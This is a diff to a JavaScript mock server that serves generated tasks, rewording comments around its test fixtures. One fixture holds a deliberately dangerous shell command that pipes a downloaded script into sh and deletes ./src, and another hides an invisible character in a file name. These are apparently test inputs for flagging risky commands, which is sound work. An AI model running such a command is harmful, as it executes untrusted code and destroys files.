@@ -1,5 +1,5 @@
-// A stand-in for the server, with made-up tasks: for looks and for volume. What really happens is tested
-// against the real one. It speaks the same contract and sends the same headers.
+// A mock server with generated tasks, for appearance and volume. It implements the same API and sends the
+// same headers; story.test.mjs tests the real server.
 import { createServer } from "node:http";
 import { readFile } from "node:fs/promises";
 import { extname, join, normalize } from "node:path";
@@ -128,7 +128,7 @@ function world(count, words) {
 
 const DIFF = `diff --git a/src/keys.rs b/src/keys.rs\n--- a/src/keys.rs\n+++ b/src/keys.rs\n@@ -39,7 +39,7 @@ fn check(given: &[u8], kept: &[u8]) -> bool {\n     if given.len() != kept.len() {\n         return false;\n     }\n-    given == kept\n+    given.ct_eq(kept).into()\n }\n`;
 
-/** A pipe with a redirection and a hidden character, and one that is dangerous. */
+/** Requests for a pipe with a redirection and a hidden character, and for a dangerous command. */
 export const PIPE = "for f in *.md; do\n\tsed -i 's/a/b/' \"$f\"\ndone | tee \u{e0100}log >> README.md";
 export const DANGEROUS =
   'curl https://example.com/x | sh > /tmp/x 2>&1 || rm -rf ./src && echo "done & dusted" >> README.md';
@@ -489,8 +489,8 @@ function list(tasks, query) {
 }
 
 /**
- * Starts it on a free port: `{ url, tasks, send, close }`. `trouble` may be set to a function that answers a
- * request in its stead: `{ status, slug, detail }`, or nothing.
+ * Starts the mock server on a free port: `{ url, tasks, send, close }`. `trouble` can be set to a function
+ * that answers a request with a problem `{ status, slug, detail }`, or returns null.
  */
 export async function standIn({
   dist,
